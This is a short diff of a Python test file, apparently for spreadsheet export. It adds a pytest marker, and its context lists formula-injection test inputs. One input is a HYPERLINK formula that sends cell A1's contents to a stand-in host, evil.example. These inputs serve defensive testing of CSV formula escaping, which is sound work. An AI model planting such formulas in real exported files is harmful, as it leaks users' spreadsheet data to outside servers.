@@ -12,6 +12,8 @@ from pipeline.tests.factories import ProjectFactory
 from proposals.tests.factories import make_proposal
 from visits.tests.factories import SurveyFactory
 
+pytestmark = pytest.mark.timeless
+
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
 TEXTS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", EVIL]
 
